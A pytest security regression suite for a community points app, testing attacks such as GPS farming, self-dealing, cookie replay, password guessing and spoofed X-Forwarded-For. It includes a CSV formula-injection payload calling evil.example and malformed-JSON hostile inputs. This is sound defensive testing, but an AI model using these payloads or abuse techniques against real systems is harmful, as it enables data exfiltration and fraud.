"""Issue 10's attacks, run over HTTP against the app served the production way (gunicorn + PostgreSQL,
CIVIC_CONFIG=production, demo data): the `served` fixture in tests/security/conftest.py. Each attack was
seen working on the product before issue 10 and must fail now."""
import csv
import io
import time as clock
from datetime import UTC, datetime, timedelta

import pytest
from PIL import Image
from sqlalchemy import select

from tests.patrols.helpers import walk

pytestmark = pytest.mark.postgres

COMMITTEE, COMMITTEE2, COORDINATOR = "13800000001", "13800000002", "13800000003"
RESIDENT, NEIGHBOUR, B_RESIDENT = "13800000005", "13800000006", "13800000015"


def _user_id(served, phone):
    from civic.accounts.models import User
    from civic.extensions import db

    return served.read(lambda: db.session.scalar(select(User.id).where(User.phone == phone)))


def _jpeg():
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 40)).save(out, "JPEG")
    return out.getvalue()


def test_committee_packing(served):
    """One committee member confirms a fresh sign-up, tries to make the puppet committee and to remove a
    colleague: the committee is unchanged (only the street's or district's administrator appoints)."""
    from civic.communities.models import MemberRole
    from civic.extensions import db

    phone, password = served.sign_up("傀儡")
    puppet = served.token(phone, password)
    joined = served.client().post(f"/api/v1/communities/{served.a}/join", json={"address": "9号楼"}, headers=puppet)
    assert joined.status_code == 201, joined.text
    member = served.token(COMMITTEE)
    approved = served.client().post(f"/api/v1/communities/{served.a}/requests/{joined.json()['id']}",
                                    json={"approve": True}, headers=member)
    assert approved.status_code == 200, approved.text
    page = served.session(COMMITTEE)
    members = f"/c/{served.a}/members"
    page.submit(members, f"/c/{served.a}/roles",
                {"user_id": str(_user_id(served, phone)), "role": "committee", "action": "grant"})
    page.submit(members, f"/c/{served.a}/roles",
                {"user_id": str(_user_id(served, COMMITTEE2)), "role": "committee", "action": "revoke"})
    committee = served.read(lambda: set(db.session.scalars(select(MemberRole.user_id).where(
        MemberRole.community_id == served.a, MemberRole.role == "committee"))))
    assert committee == {_user_id(served, COMMITTEE), _user_id(served, COMMITTEE2)}


def test_minting_by_raising_a_point_setting(served):
    """Raising points_per_attendance to 1000 alone through the API is only a proposal; the proposer cannot
    confirm it; the setting stays what it was."""
    member = served.token(COMMITTEE)
    url = f"/api/v1/deliberation/communities/{served.a}/settings"
    before = served.client().get(url, headers=member).json()
    raised = served.client().request("PUT", url, headers=member, json={
        "support_threshold": before["support_threshold"], "points_per_attendance": 1000,
        "veto_percent": before["veto_percent"], "evaluation_days": before["evaluation_days"]})
    assert raised.status_code == 200, raised.text
    assert raised.json()["points_per_attendance"] == before["points_per_attendance"] != 1000
    changes = served.client().get(f"/api/v1/communities/{served.a}/rule-changes", headers=member).json()
    waiting = [c for c in changes if c["field"] == "points_per_attendance" and c["status"] == "pending"]
    assert [c["new_value"] for c in waiting] == [1000]
    own = served.client().post(f"/api/v1/communities/{served.a}/rule-changes/{waiting[0]['id']}",
                               json={"decision": "confirm"}, headers=member)
    assert own.status_code == 403
    assert served.client().get(url, headers=member).json()["points_per_attendance"] == before["points_per_attendance"]


def test_gps_farming(served):
    """A smooth two-hour walk with past timestamps uploaded to a patrol ended seconds later: every fix is
    dropped, the patrol is flagged, approving it without a reason is refused, and no points are paid."""
    volunteer, coordinator = served.token(NEIGHBOUR), served.token(COORDINATOR)
    base = f"/api/v1/communities/{served.a}"
    balance = served.client().get(f"{base}/points", headers=volunteer).json()
    started = served.client().post(f"{base}/patrols", json={}, headers=volunteer)
    assert started.status_code == 201, started.text
    patrol = started.json()["id"]
    fake = walk(clock.time() - 3 * 3600, seconds=7200, dt=2, speed=1.34, fake=True)
    future = walk(clock.time() + 20 * 3600, seconds=600, dt=2, speed=1.34, prefix="f")
    dropped = 0
    for points in (fake[i:i + 500] for i in range(0, len(fake), 500)):
        answer = served.client().post(f"{base}/patrols/{patrol}/points", json={"points": points}, headers=volunteer)
        assert answer.status_code in (200, 201), answer.text
        assert answer.json()["accepted"] == 0
        dropped += answer.json()["dropped"]
    answer = served.client().post(f"{base}/patrols/{patrol}/points", json={"points": future}, headers=volunteer)
    assert answer.json()["accepted"] == 0
    assert dropped == len(fake)
    again = served.client().post(f"{base}/patrols", json={}, headers=volunteer)
    assert again.json()["id"] == patrol, "a second, overlapping patrol was started"  # one open patrol
    ended = served.client().post(f"{base}/patrols/{patrol}/end", headers=volunteer).json()
    assert ended["distance_m"] == 0 and "suspicious" in ended["flags"], ended
    refused = served.client().post(f"{base}/patrols/{patrol}/review", json={"approve": True}, headers=coordinator)
    assert refused.status_code == 422 and refused.json()["reason"] == "reason_required", refused.text
    assert served.client().get(f"{base}/points", headers=volunteer).json() == balance


def test_csv_formula_export(served):
    """A meeting titled =HYPERLINK(...) with minutes =1+2 and an item @SUM(...): the minutes CSV the committee
    downloads holds them as text."""
    member = served.token(COMMITTEE)
    now = datetime.now(UTC)
    title, minutes, item = '=HYPERLINK("http://evil.example/?"&A1,"点我")', "=1+2", "@SUM(A1:A9)"
    meeting = served.client().post(f"/api/v1/deliberation/communities/{served.a}/meetings", headers=member, json={
        "title": title, "place": "活动室", "starts_at": (now - timedelta(minutes=5)).isoformat(),
        "ends_at": (now + timedelta(hours=1)).isoformat(), "quorum_count": 0, "quorum_percent": 0})
    assert meeting.status_code == 201, meeting.text
    mid = meeting.json()["id"]
    base = f"/api/v1/deliberation/communities/{served.a}/meetings/{mid}"
    assert served.client().post(f"{base}/items", json={"title": item}, headers=member).status_code == 201
    assert served.client().post(f"{base}/minutes", json={"minutes": minutes}, headers=member).status_code in (200, 201)
    download = served.session(COMMITTEE).get(f"/c/{served.a}/deliberation/meetings/{mid}/minutes.csv")
    assert download.status_code == 200 and download.headers["Content-Type"].startswith("text/csv")
    cells = [c for row in csv.reader(io.StringIO(download.content.decode("utf-8-sig"))) for c in row]
    for value in (title, minutes, item):
        assert "'" + value in cells, (value, cells)
    assert not [c for c in cells if c[:1] in set("=+-@\t\r")]


def test_cross_community_photo_fetch(served):
    """A photo a resident of A uploaded is served to A's members, and is a 404 for B's resident."""
    upload = served.client().post(f"/api/v1/communities/{served.a}/merit/photos", headers=served.token(RESIDENT),
                                  files={"photo": ("tree.jpg", _jpeg(), "image/jpeg")})
    assert upload.status_code == 201, upload.text
    url = upload.json()["url"]
    assert served.session(NEIGHBOUR).get(url).status_code == 200
    assert served.session(B_RESIDENT).get(url).status_code == 404
    assert served.client().get(url).status_code in (302, 401)


# --- hostile bytes: 4xx JSON, never a 500 ---------------------------------------------------------

def _hostile_requests(served):
    """(name, method, path, raw JSON body, headers) for item 7's hostile bytes."""
    token = served.token(RESIDENT)
    a = served.a
    surrogate = b'"\\ud800"'
    targets = [
        ("claims", f"/api/v1/communities/{a}/merit/claims", b'{"rule_id": 1, "description": %s}'),
        ("topics", f"/api/v1/deliberation/communities/{a}/topics", b'{"title": %s, "description": "x"}'),
        ("reports", f"/api/v1/communities/{a}/reports", b'{"category_id": 1, "description": %s}'),
        ("auth token", "/api/v1/auth/token", b'{"phone": %s, "password": "x"}'),
    ]
    cases = [(f"lone surrogate on {name}", path, body % surrogate) for name, path, body in targets]
    cases += [
        ("JSON nested 1000 deep", f"/api/v1/communities/{a}/merit/claims", b"[" * 1000 + b"]" * 1000),
        ("5000-digit integer", f"/api/v1/communities/{a}/merit/claims",
         b'{"rule_id": ' + b"9" * 5000 + b', "description": "abc"}'),
    ]
    return [(name, path, body, token) for name, path, body in cases]


def _answers_4xx_json(served, name, path, body, token):
    answer = served.client().post(path, data=body, headers={**token, "Content-Type": "application/json"})
    return (400 <= answer.status_code < 500 and answer.headers.get("Content-Type", "").startswith("application/json"),
            f"{name}: {answer.status_code} {answer.headers.get('Content-Type')}")


def test_hostile_bytes_answer_4xx_json(served):
    """Lone surrogates on claims, topics, reports and the token endpoint, JSON nested 1000 deep, and a
    5000-digit integer each answer 4xx JSON, never a 500 (issue 10 item 7; the fixes are the `auth`
    branch's: until it is merged this test fails, and that failure is the one the lead checks after merging)."""
    failures = [why for ok, why in (_answers_4xx_json(served, *case) for case in _hostile_requests(served)) if not ok]
    assert failures == []


# --- item 1: attendance minted alone; item 4: self-dealing on reports -------------------------------

def _points(served, headers, community_id=None):
    """The caller's points in community A (or `community_id`): {"balance", "owed", "reserved", ...}."""
    answer = served.client().get(f"/api/v1/communities/{community_id or served.a}/points", headers=headers)
    assert answer.status_code == 200, answer.text
    return answer.json()


def _on_notice(served, headers, source_kind, source_id):
    """The notice board's entries (on notice or posted) for one cause."""
    board = served.client().get(f"/api/v1/communities/{served.a}/merit/notice", headers=headers).json()
    return [c for c in board["on_notice"] + board["posted"] + board["under_review"]
            if c["source_kind"] == source_kind and c["source_id"] == source_id]


def test_committee_member_checks_themself_in(served):
    """A committee member plans a session starting now and checks themself in by name: counted present,
    but no points and nothing on the notice board. When a different organiser checks them in, the
    attendance award goes on the 积分公示 notice board and the balance does not move before the notice
    period ends."""
    member, colleague = served.token(COMMITTEE), served.token(COMMITTEE2)
    base = f"/api/v1/deliberation/communities/{served.a}"
    per_attendance = served.client().get(f"{base}/settings", headers=member).json()["points_per_attendance"]
    assert per_attendance > 0  # attendance pays: the attack would have earned points
    now = datetime.now(UTC)
    meeting = served.client().post(f"{base}/meetings", headers=member, json={
        "title": "自己签到的会", "place": "活动室", "starts_at": (now - timedelta(minutes=1)).isoformat(),
        "ends_at": (now + timedelta(hours=1)).isoformat(), "quorum_count": 0, "quorum_percent": 0})
    assert meeting.status_code == 201, meeting.text
    mid, me = meeting.json()["id"], _user_id(served, COMMITTEE)
    before = _points(served, member)

    own = served.client().post(f"{base}/meetings/{mid}/attendance", json={"user_id": me}, headers=member)
    assert own.status_code == 200 and own.json()["user_id"] == me, own.text  # present ...
    again = served.client().post(f"{base}/meetings/{mid}/attendance", json={"user_id": me}, headers=member)
    assert again.status_code == 200 and again.json()["already"] is True
    assert _points(served, member)["balance"] == before["balance"]  # ... but no points
    assert _on_notice(served, member, "meeting", mid) == []

    vouched = served.client().post(f"{base}/meetings/{mid}/attendance", json={"user_id": me}, headers=colleague)
    assert vouched.status_code == 200, vouched.text
    award = _on_notice(served, member, "meeting", mid)
    assert [(a["status"], a["points"], a["resident_name"]) for a in award] == [("notice", per_attendance, "王主任")]
    assert datetime.fromisoformat(award[0]["notice_ends_at"]) > datetime.now(UTC)
    assert _points(served, member)["balance"] == before["balance"]  # not before the notice period ends


def _my_card(served, phone):
    """The code on a person's own printed check-in card (/deliberation/card), read back from its QR SVG."""
    import re

    import zxingcpp

    from tests.core.test_shared import _raster_svg_qr

    page = served.session(phone).get("/deliberation/card").text
    svg = next(s for s in re.findall(r"<svg.*?</svg>", page, re.S) if re.search(r"M\d+,\d+H", s))
    return zxingcpp.read_barcodes(_raster_svg_qr(svg))[0].text


def test_committee_member_scans_their_own_card(served):
    """The same with the organiser's own personal card, scanned into a session they planned: present by
    card, but no points and nothing on the notice board."""
    member = served.token(COMMITTEE)
    base = f"/api/v1/deliberation/communities/{served.a}"
    now = datetime.now(UTC)
    meeting = served.client().post(f"{base}/meetings", headers=member, json={
        "title": "自己刷卡的会", "place": "活动室", "starts_at": (now - timedelta(minutes=1)).isoformat(),
        "ends_at": (now + timedelta(hours=1)).isoformat(), "quorum_count": 0, "quorum_percent": 0})
    assert meeting.status_code == 201, meeting.text
    mid, me = meeting.json()["id"], _user_id(served, COMMITTEE)
    before = _points(served, member)
    scanned = served.client().post(f"{base}/meetings/{mid}/attendance",
                                   json={"card_token": _my_card(served, COMMITTEE)}, headers=member)
    assert scanned.status_code == 200 and scanned.json()["user_id"] == me, scanned.text
    listed = served.client().get(f"{base}/meetings/{mid}/attendance", headers=member).json()
    assert [(p["present"], p["method"]) for p in listed if p["user_id"] == me] == [(True, "card")]
    assert _on_notice(served, member, "meeting", mid) == []
    assert _points(served, member)["balance"] == before["balance"]


def test_coordinator_handles_their_own_report(served):
    """A coordinator reports a problem and tries to accept it, pass it to themself, resolve and confirm it
    through the API: each step is refused (accept and assign: 403 own_award), the report stays submitted,
    and no points move. A real handler accepting it does not let the reporter resolve it on the page."""
    coordinator, handler = served.token(COORDINATOR), served.token(COMMITTEE)
    base = f"/api/v1/communities/{served.a}"
    category = served.client().get(f"{base}/report-categories", headers=coordinator).json()[0]["id"]
    before = _points(served, coordinator)
    report = served.client().post(f"{base}/reports", headers=coordinator,
                                  json={"category_id": category, "description": "路灯坏了（自己处理自己的）"})
    assert report.status_code == 201, report.text
    rid, url = report.json()["id"], f"{base}/reports/{report.json()['id']}"

    for action in ({"action": "accept"}, {"action": "assign", "assignee_id": _user_id(served, COORDINATOR)}):
        refused = served.client().post(url, json=action, headers=coordinator)
        assert refused.status_code == 403, (action, refused.text)
        assert refused.json()["reason"] == "own_award" and refused.json()["code"] == 403
    assert served.client().post(url, json={"action": "resolve"}, headers=coordinator).status_code == 422
    confirm = served.client().post(url, json={"action": "confirm"}, headers=coordinator)
    assert confirm.status_code in (403, 409), confirm.text
    assert served.client().get(url, headers=coordinator).json()["status"] == "submitted"

    accepted = served.client().post(url, json={"action": "accept"}, headers=handler)
    assert accepted.status_code == 200 and accepted.json()["status"] == "accepted", accepted.text
    page = served.session(COORDINATOR)
    resolved = page.post(f"/c/{served.a}/reports/{rid}/resolve", files={"photo": ("fixed.jpg", _jpeg(), "image/jpeg")},
                         data={"note": "修好了", "csrf_token": page.csrf(f"/c/{served.a}/reports/{rid}")})
    assert resolved.status_code == 403, resolved.text[:300]  # the page's own_award refusal
    assert served.client().get(url, headers=coordinator).json()["status"] == "accepted"
    assert served.client().post(url, json={"action": "confirm"}, headers=coordinator).status_code in (403, 409)
    assert _on_notice(served, coordinator, "report", rid) == []
    assert _points(served, coordinator)["balance"] == before["balance"]


# --- item 6: sign-in and sessions ------------------------------------------------------------------

def _from(served, address):
    """A fresh client whose connections leave from another loopback address (127.0.0.0/8 is all local): a
    second machine, as far as the served app can tell."""
    from requests.adapters import HTTPAdapter

    class FromAddress(HTTPAdapter):
        def init_poolmanager(self, *args, **kwargs):
            super().init_poolmanager(*args, source_address=(address, 0), **kwargs)

    client = served.client()
    client.http.mount("http://", FromAddress())
    return client


def _token_answer(client, phone, password, headers=None):
    return client.post("/api/v1/auth/token", json={"phone": phone, "password": password}, headers=headers)


def _cookie_header(client):
    return "; ".join(f"{c.name}={c.value}" for c in client.http.cookies)


def test_a_new_password_ends_api_tokens(served):
    """An API token made before a password change on the page answers 401 after it; the new password works."""
    phone, password = served.sign_up("改密码的人")
    token = served.token(phone, password)
    assert served.client().get("/api/v1/me", headers=token).status_code == 200
    page = served.session(phone, password)
    changed = page.submit("/me/password", "/me/password",
                          {"current": password, "password": "Copper-Kettle-77", "confirm": "Copper-Kettle-77"})
    assert changed.status_code == 302, changed.text[:300]
    refused = served.client().get("/api/v1/me", headers=token)
    assert refused.status_code == 401 and refused.json()["code"] == 401
    assert served.client().get("/api/v1/me", headers=served.token(phone, "Copper-Kettle-77")).status_code == 200


def test_a_cookie_replayed_after_sign_out_is_refused(served):
    """The session and remember-me cookies, copied before signing out, sign in before (so the test can fail)
    and sign nobody in after: sign-out ended the session on the server."""
    phone, password = served.sign_up("退出的人")
    browser = served.client()
    assert browser.submit("/login", "/login",
                          {"phone": phone, "password": password, "remember": "y"}).status_code == 302
    names = {c.name for c in browser.http.cookies}
    assert {"session", "remember_token"} <= names, names
    saved = _cookie_header(browser)
    remembered = next(f"remember_token={c.value}" for c in browser.http.cookies if c.name == "remember_token")
    assert served.client().get("/me", headers={"Cookie": saved}).status_code == 200
    assert served.client().get("/me", headers={"Cookie": remembered}).status_code == 200
    out = browser.submit("/me", "/logout", {})
    assert out.status_code == 302, out.text[:300]
    for cookie in (saved, remembered):
        assert served.client().get("/me", headers={"Cookie": cookie}).status_code == 302
        assert served.client().get("/api/v1/me", headers={"Cookie": cookie}).status_code == 401


def test_sixty_simultaneous_guesses_and_the_owner_elsewhere(served):
    """60 threads guess one number's password at once: at most five are evaluated (401), the rest wait (429).
    A forged X-Forwarded-For gives no new throttle bucket (no trusted proxy), even with the right password;
    the real owner signing in from another address is not locked out."""
    import threading

    phone, password = served.sign_up("被猜的人")
    start, statuses = threading.Barrier(60), []

    def guess(i):
        client = served.client()
        start.wait()
        statuses.append(_token_answer(client, phone, f"wrong-guess-{i}").status_code)

    threads = [threading.Thread(target=guess, args=(i,)) for i in range(60)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(statuses) == 60 and set(statuses) <= {401, 429}, statuses
    assert 1 <= statuses.count(401) <= 5 and statuses.count(429) >= 55, sorted(statuses)

    forged = _token_answer(served.client(), phone, password, headers={"X-Forwarded-For": "203.0.113.77"})
    assert forged.status_code == 429 and forged.json()["reason"] == "too_many_attempts", forged.text
    owner = _token_answer(_from(served, "127.0.0.2"), phone, password)
    assert owner.status_code == 201, owner.text
    assert _from(served, "127.0.0.2").sign_in(phone, password).status_code == 302


def test_an_unknown_number_costs_as_much_as_a_known_one(served):
    """A wrong password for a registered number and any password for an unknown number take about as long
    (median of several tries, each from its own address so no throttle answers quickly)."""
    phone, _password = served.sign_up("计时的人")

    def timed(number, address):
        client = _from(served, address)
        client.get("/healthz")  # the connection is open before the clock starts
        started = clock.perf_counter()
        answer = _token_answer(client, number, "not-the-password-9")
        elapsed = clock.perf_counter() - started
        assert answer.status_code == 401, answer.text
        return elapsed

    timed("13700000000", "127.0.1.1")  # the dummy hash is made once, on first use
    known = sorted(timed(phone, f"127.0.2.{i}") for i in range(1, 6))[2]
    unknown = sorted(timed(f"1370000{i:04d}", f"127.0.3.{i}") for i in range(1, 6))[2]
    assert 0.33 < unknown / known < 3, (known, unknown)


def test_a_weak_new_password_is_refused(served):
    """12345678 is refused at sign-up (no account) and as a new password (the old one still works)."""
    phone = "1390000" + f"{clock.time_ns() % 10000:04d}"
    signup = served.client().submit("/signup", "/signup",
                                    {"phone": phone, "display_name": "弱密码", "password": "12345678",
                                     "confirm": "12345678", "password2": "12345678", "agree": "y"})
    assert signup.status_code == 200 and "太容易被猜到" in signup.text
    assert _token_answer(served.client(), phone, "12345678").status_code == 401
    phone, password = served.sign_up("想改弱密码")
    page = served.session(phone, password)
    weak = page.submit("/me/password", "/me/password",
                       {"current": password, "password": "12345678", "confirm": "12345678"})
    assert weak.status_code == 200 and "太容易被猜到" in weak.text
    assert _token_answer(served.client(), phone, "12345678").status_code == 401
    assert _token_answer(served.client(), phone, password).status_code == 201


def test_a_cookie_api_post_needs_the_csrf_header(served):
    """A browser's cookies alone (session, or only the remember-me cookie) do not carry an API POST: without
    X-CSRFToken it is refused and nothing is made; with it the same request is accepted."""
    phone, password = served.sign_up("跨站请求")
    browser = served.client()
    assert browser.submit("/login", "/login",
                          {"phone": phone, "password": password, "remember": "y"}).status_code == 302
    remembered = next(f"remember_token={c.value}" for c in browser.http.cookies if c.name == "remember_token")
    join = f"/api/v1/communities/{served.a}/join"
    for cookie in (_cookie_header(browser), remembered):
        refused = served.client().post(join, json={"address": "7号楼"}, headers={"Cookie": cookie})
        assert refused.status_code in (400, 403), refused.text
        assert refused.json()["code"] == refused.status_code
    assert served.client().get("/api/v1/me", headers={"Cookie": remembered}).status_code == 200  # signed in all along
    from civic.communities.models import Membership
    from civic.extensions import db

    me = _user_id(served, phone)
    assert served.read(lambda: db.session.scalar(select(Membership.id).where(Membership.user_id == me))) is None
    accepted = served.session(phone, password).post(join, json={"address": "7号楼"})
    assert accepted.status_code == 201, accepted.text


# --- item 5: a deduction dodged through shop orders -----------------------------------------------

START, DEDUCTION = 40, 20  # 见义勇为 approved at 40 (two approvers above 20); 不赡养老人 is a 20-point deduction
DOING_NOTHING = START - DEDUCTION


def _notice_period_ends(served):
    """The worker's notice job, run on the served database as the worker process would, a month later (a
    clock, not a wait): everything on notice without an objection posts."""
    from civic.core.clock import utcnow
    from civic.extensions import db
    from civic.merit import service as merit

    with served.app.app_context():
        try:
            while merit.close_notices(now=utcnow() + timedelta(days=31)):
                db.session.commit()
            db.session.commit()
        finally:
            db.session.remove()


def _rule(served, headers, name):
    categories = served.client().get(f"/api/v1/communities/{served.a}/merit/rules", headers=headers).json()
    return next(r["id"] for c in categories for r in c["rules"] if r["name"] == name)


def _approve(served, claim_id, *approvers, points=None):
    for phone in approvers:
        answer = served.client().post(f"/api/v1/communities/{served.a}/merit/claims/{claim_id}/approval",
                                      json={"approve": True, "points": points}, headers=served.token(phone))
        assert answer.status_code == 200, answer.text
    return answer.json()


def _resident_with_points(served, name):
    """A fresh resident of A holding START points (a claim approved by two members, posted after its notice)."""
    phone, password = served.sign_up(name)
    me = served.token(phone, password)
    base = f"/api/v1/communities/{served.a}"
    joined = served.client().post(f"{base}/join", json={"address": "5号楼"}, headers=me)
    assert joined.status_code == 201, joined.text
    assert served.client().post(f"{base}/requests/{joined.json()['id']}", json={"approve": True},
                                headers=served.token(COMMITTEE)).status_code == 200
    claim = served.client().post(f"{base}/merit/claims", headers=me, json={
        "rule_id": _rule(served, me, "见义勇为"), "description": f"{name}扑灭了楼道里的火"})
    assert claim.status_code == 201, claim.text
    assert _approve(served, claim.json()["id"], COMMITTEE, COMMITTEE2, points=START)["status"] == "notice"
    _notice_period_ends(served)
    assert _points(served, me)["balance"] == START
    return phone, me


def _record_deduction(served, phone, *, approve):
    member = served.token(COMMITTEE)
    claim = served.client().post(f"/api/v1/communities/{served.a}/merit/claims", headers=member, json={
        "rule_id": _rule(served, member, "不赡养老人"), "description": "不管年迈的父亲",
        "resident_id": _user_id(served, phone)})
    assert claim.status_code == 201, claim.text
    if approve:
        assert _approve(served, claim.json()["id"], COMMITTEE2)["status"] == "notice"
    return claim.json()["id"]


def _towel(served, headers):
    items = served.client().get(f"/api/v1/communities/{served.a}/shop/items", headers=headers).json()
    return next(i["id"] for i in items if i["name"] == "毛巾")  # 20 points, 30 in stock, no monthly limit


def _order(served, headers, item_id):
    return served.client().post(f"/api/v1/communities/{served.a}/shop/orders", json={"item_id": item_id},
                                headers=headers)


def _cancel(served, headers, order_id):
    answer = served.client().post(f"/api/v1/communities/{served.a}/shop/orders/{order_id}/cancel", headers=headers)
    assert answer.status_code == 200, answer.text


def test_parking_points_in_orders_while_a_deduction_is_on_notice(served):
    """With a 20-point deduction approved (on notice) the resident of 40 points orders everything: only the
    20 free points buy (then 409 points_reserved); the deduction posts in full; cancelling leaves 20, what
    doing nothing leaves."""
    phone, me = _resident_with_points(served, "囤积者甲")
    _record_deduction(served, phone, approve=True)
    assert _points(served, me)["reserved"] == DEDUCTION and _points(served, me)["balance"] == START
    towel, placed = _towel(served, me), []
    for _ in range(2):  # try to park all 40 points
        answer = _order(served, me, towel)
        if answer.status_code == 201:
            placed.append(answer.json()["id"])
        else:
            assert answer.status_code == 409 and answer.json()["reason"] == "points_reserved", answer.text
    assert len(placed) == 1
    _notice_period_ends(served)
    for order_id in placed:
        _cancel(served, me, order_id)
    after = _points(served, me)
    assert (after["balance"], after["owed"]) == (DOING_NOTHING, 0)


def test_points_parked_before_the_approval_become_a_debt(served):
    """Orders placed before the deduction is approved park the whole balance: the deduction posts 0 and the
    20 points are owed (API `owed`, the passbook page); new orders are refused (debt_open); cancelling pays
    the debt first, and the resident ends with what doing nothing leaves."""
    phone, me = _resident_with_points(served, "囤积者乙")
    claim_id = _record_deduction(served, phone, approve=False)
    towel = _towel(served, me)
    placed = [_order(served, me, towel) for _ in range(2)]
    assert [a.status_code for a in placed] == [201, 201], [a.text for a in placed]
    assert _points(served, me)["balance"] == 0
    assert _approve(served, claim_id, COMMITTEE2)["status"] == "notice"
    _notice_period_ends(served)
    after = _points(served, me)
    assert (after["balance"], after["owed"]) == (0, DEDUCTION)
    page = served.session(phone, "Lantern-Pebble-42").get("/points")
    assert 'data-testid="debt"' in page.text and "不赡养老人" in page.text
    refused = _order(served, me, towel)
    assert refused.status_code == 409 and refused.json()["reason"] == "debt_open", refused.text
    for answer in placed:
        _cancel(served, me, answer.json()["id"])
    after = _points(served, me)
    assert (after["balance"], after["owed"]) == (DOING_NOTHING, 0)
